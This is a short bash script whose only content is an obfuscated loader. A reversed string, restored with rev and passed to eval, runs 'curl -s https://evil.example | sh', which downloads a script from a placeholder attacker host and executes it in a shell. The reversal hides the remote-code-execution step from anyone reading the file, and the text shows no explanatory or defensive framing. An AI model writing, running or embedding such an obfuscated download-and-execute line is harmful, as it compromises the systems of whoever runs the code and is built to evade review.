#!/bin/bash
x='hs | elpmaxe.live//:sptth s- lruc'
eval "$(rev <<< "$x")"
